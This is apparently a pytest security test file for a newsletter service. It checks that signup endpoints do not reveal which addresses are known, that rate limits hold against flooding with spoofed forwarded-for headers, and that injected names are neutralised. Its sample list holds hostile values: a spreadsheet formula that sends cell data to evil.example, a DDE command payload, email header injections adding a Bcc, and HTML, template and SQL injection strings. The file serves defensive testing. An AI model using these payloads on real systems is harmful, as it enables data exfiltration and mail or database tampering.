"""Who types addresses that are not theirs: to learn who is known, to bomb with letters, to write into mails."""

from __future__ import annotations

import csv
import http.client
import json
import statistics
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Self

import pytest

from calling import serving
from conftest import PublicationFactory
from mailing import link_of, mailing
from newsletter import subscriptions
from newsletter.model import SuppressionReason
from newsletter.store import Store
from newsletter.web import asking
from visiting import NOW, Visit, visiting

ADA = "ada@example.org"
MINUTES_OF_A_DAY = 24 * 60


@pytest.fixture
def quick(publication: PublicationFactory, sqlite_store: Store) -> Iterator[Visit]:
    """Serve two newsletters, a subscriber, and a suppressed address, over SQLite."""
    subscriptions.add(sqlite_store, ADA, ["weekly"], consent="said so", now=NOW)
    with sqlite_store.write() as tx:
        subscriptions.suppress(tx, "no@example.org", SuppressionReason.COMPLAINT, now=NOW)
    with visiting(publication, sqlite_store) as visit:
        yield visit


# Learning


def by_form(visit: Visit, address: str) -> tuple[int, str]:
    answer = visit.post("/subscribe/", {"address": address, "newsletter": "weekly"})
    return answer.status, answer.page


def by_json(visit: Visit, address: str) -> tuple[int, str]:
    body = json.dumps({"address": address, "newsletters": ["weekly"]}).encode()
    answer = visit.ask("POST", "/subscribe/", body, content_type="application/json")
    return answer.status, answer.page


def by_link(visit: Visit, address: str) -> tuple[int, str]:
    answer = visit.post("/preferences/", {"address": address})
    return answer.status, answer.page


def by_move(visit: Visit, address: str) -> tuple[int, str]:
    answer = visit.post(f"{visit.page(ADA)}/address", {"address": address})
    return answer.status, answer.page


@pytest.mark.parametrize("ask", [by_form, by_json, by_link, by_move])
def test_no_way_of_asking_tells_who_is_known(
    quick: Visit, ask: Callable[[Visit, str], tuple[int, str]]
) -> None:
    known = {"known": ADA, "suppressed": "no@example.org"}
    answers: set[tuple[int, str]] = set()
    ask(quick, "first@example.org")  # what is loaded once
    for attempt in range(3):  # on a busy machine a round may be uneven; what tells is uneven in each
        took: dict[str, list[float]] = {"known": [], "suppressed": [], "unknown": []}
        for number in range(3):
            for kind, times in took.items():
                address = known.get(kind, f"new{attempt}{number}@example.org")
                quick.network = f"198.51.{len(answers)}{attempt}{number}.1"
                begun = time.perf_counter()
                status, page = ask(quick, address)
                times.append(time.perf_counter() - begun)
                answers.add((status, page.replace(address, "ADDRESS")))
        medians = [statistics.median(times) for times in took.values()]
        if max(medians) - min(medians) < asking.QUANTUM / 2:
            break
    else:
        pytest.fail(f"the time tells: {took}")
    assert len(answers) == 1
    assert answers.pop()[0] in (200, 202)


def test_without_a_key_the_api_tells_nothing_of_anybody(
    publication: PublicationFactory, sqlite_store: Store
) -> None:
    subscriptions.add(sqlite_store, ADA, ["weekly"], consent="said so", now=NOW)
    paths = [
        "/subscribers/1",
        "/subscribers/99",
        f"/subscribers?address={ADA}",
        "/subscribers?address=x@y.zz",
    ]
    with serving(publication(), sqlite_store) as client:
        answers = [client.get(path, authorization="") for path in paths]
        sent = {"address": ADA, "newsletters": ["weekly"], "consent": "x"}
        answers += [
            client.post("/subscribers", {**sent, "address": one}, authorization="")
            for one in (ADA, "new@example.org")
        ]
    assert {one.status for one in answers} == {401}
    assert len({one.raw for one in answers}) == 1


# Bombing


@pytest.fixture
def at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """Answer without waiting for a multiple of some time."""
    monkeypatch.setattr(asking, "QUANTUM", 0.001)


class Line:
    """One connection that posts again and again, each time from another network."""

    def __init__(self, visit: Visit) -> None:
        self._connection = http.client.HTTPConnection("127.0.0.1", visit.port, timeout=60)

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self._connection.close()

    def sign_up(self, address: str, number: int) -> int:
        headers = {
            "content-type": "application/json",
            "x-forwarded-for": f"10.{number // 250}.{number % 250}.7",
        }
        body = json.dumps({"address": address, "newsletters": ["weekly"]})
        self._connection.request("POST", "/subscribe/", body, headers)
        answer = self._connection.getresponse()
        answer.read()
        return answer.status


@pytest.mark.usefixtures("at_once")
def test_thousands_of_addresses_from_as_many_networks_stay_within_the_total(
    publication: PublicationFactory, sqlite_store: Store
) -> None:
    limit, codes = {"signups_per_hour": 60}, []
    for part in range(2):  # the server is started anew in between
        with visiting(publication, sqlite_store, web=limit) as visit, Line(visit) as line:
            for number in range(part * 1_000, (part + 1) * 1_000):
                codes.append(line.sign_up(f"victim{number}@example.org", number))
            assert len(visit.letters()) == 60
    assert (codes.count(202), codes.count(429)) == (60, 1_940)
    with visiting(publication, sqlite_store, web=limit) as visit, Line(visit) as line:
        visit.clock.turn(minutes=10)
        codes = [line.sign_up(f"later{number}@example.org", number) for number in range(100)]
    assert codes.count(202) == 10, "one more each minute"


@pytest.mark.usefixtures("at_once")
def test_one_address_typed_all_day_gets_few_letters(
    publication: PublicationFactory, sqlite_store: Store
) -> None:
    many = {"signups_per_hour": 3_600}
    for half in range(2):  # the server is started anew in between
        with visiting(publication, sqlite_store, web=many) as visit, Line(visit) as line:
            visit.clock.turn(hours=12 * half)
            for minute in range(MINUTES_OF_A_DAY // 4):
                assert line.sign_up(ADA, half * 1_000 + minute) == 202
                visit.clock.turn(minutes=2)
                if minute % 5 == 0:
                    visit.sent()
            count = len(visit.letters())
    assert 2 <= count <= 8, "after 10, 20, 40, … minutes"


# Writing into what is not theirs


INJECTED = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    '"Eve" <eve@evil.example>, Ada',
    "Ada>, <eve@evil.example",
    "=?utf-8?q?=0D=0ABcc:_eve=40evil.example?=",
    "<a href='https://evil.example/'>win</a>",
    "{{ 7 * 7 }}{% include 'x' %}",
    "Ada; drop table subscribers --",
    "Zoë " * 5,
]


def test_a_name_that_is_typed_stays_a_name(
    publication: PublicationFactory, sqlite_store: Store, tmp_path: Path
) -> None:
    with mailing(publication, sqlite_store, tmp_path) as world:
        heads = set()
        for number, name in enumerate(["Ada", *INJECTED]):
            address = f"p{number}@example.org"
            world.visit.network = f"10.0.{number}.1"
            assert world.visit.sign_up(address, name=name).status == 200, name
            confirmation = world.letter()
            assert "evil.example" not in confirmation.as_string(), "unproven words go to nobody"
            world.visit.post(link_of(confirmation, "c"))
            welcome = world.letter()
            (to,) = welcome["To"].addresses
            assert (to.addr_spec, to.display_name) == (address, " ".join(name.split()))
            heads.add(tuple(key.lower() for key in welcome.keys()))  # noqa: SIM118  # a message is no mapping
            page = welcome.get_body(("html",)).get_content()  # type: ignore[union-attr]  # it has two parts
            assert "<a href='https://evil" not in page
            assert 'href="https://evil' not in page
            assert ">49<" not in page
        assert len(heads) == 1, "no name adds a header"
        world.publisher.export_subscribers(tmp_path / "people.csv")
    with (tmp_path / "people.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == len(INJECTED) + 1
    for row in rows:
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r", cell


@pytest.mark.parametrize(
    "name", ["A\r\nBcc: eve@evil.example", "A\nB", "A\0", "A\x85B", "A\u2028B", "A\u202eB"]
)
def test_a_name_with_what_cannot_be_seen_is_refused(quick: Visit, name: str) -> None:
    before = quick.everything()
    assert quick.sign_up("eve@example.org", name=name).status == 400
    assert quick.everything() == before
